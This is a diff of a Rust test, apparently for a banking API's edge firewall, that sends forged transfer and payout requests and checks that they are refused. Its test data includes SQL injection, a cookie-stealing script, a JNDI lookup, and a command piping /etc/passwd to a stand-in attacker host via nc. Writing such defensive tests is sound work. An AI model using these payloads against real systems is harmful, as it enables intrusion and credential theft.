@@ -2,6 +2,7 @@
 //! services hears of it; the very same bytes, sent past the edge, are taken by the ledger for the text that they are.
 
 use anyhow::{Context as _, Result, ensure};
+use api::problem::code;
 use reqwest::{Client, Method};
 use serde_json::{Value, json};
 use url::Url;
@@ -25,7 +26,7 @@ pub async fn run(narrator: &mut Narrator, loot: &Loot<'_>) -> Result<()> {
         let key = format!("edge-attack-{at}");
         let forged = loot.alice.forge(Method::POST, path, Some(&body), Some(&key)).await?;
         let seen = forged.send(&loot.http).await?;
-        ensure!(seen.status == 403 && seen.code == api::problem::code::EDGE_REFUSED, "{title} was answered {seen}");
+        ensure!(seen.status == 403 && seen.code == code::EDGE_REFUSED, "{title} was answered {seen}");
         let rules = operator.edge_rules(&seen.request_id).await?;
         ensure!(!rules.is_empty(), "the edge's log does not say which rule refused {}", seen.request_id);
         // Nothing in it was used up: no service has seen it.
@@ -52,13 +53,20 @@ fn attempts(loot: &Loot<'_>) -> Vec<Attempt> {
         json!({"from_account": loot.alice_account, "amount": much, "reference": reference,
             "creditor": {"name": name, "iban": "DE89370400440532013000"}})
     };
-    let poor = api::problem::code::INSUFFICIENT_FUNDS;
+    // What gets past the edge, the ledger takes for a payout whose IBAN is not sealed, or its own layer WAF for what it is.
+    let poor = code::INSUFFICIENT_FUNDS;
     let (transfers, payouts, accounts) = ("/v1/transfers", "/v1/payouts", "/v1/accounts");
     let script = "<script>fetch('//evil.example/'+document.cookie)</script>";
     vec![
         (1, "SQL in a transfer's reference", transfers, transfer("x' UNION SELECT password FROM people --"), poor),
-        (2, "Script in a payout's reference", payouts, payout("Bob Baker", script), poor),
-        (3, "A lookup in a creditor's name", payouts, payout("${jndi:ldap://evil.example/a}", "rent"), poor),
+        (2, "Script in a payout's reference", payouts, payout("Bob Baker", script), code::REQUEST_INVALID),
+        (
+            3,
+            "A lookup in a creditor's name",
+            payouts,
+            payout("${jndi:ldap://evil.example/a}", "rent"),
+            code::FIELD_SEALED_REQUIRED,
+        ),
         (3, "A command in a transfer's reference", transfers, transfer("; cat /etc/passwd | nc evil.example 80"), poor),
         (
             4,
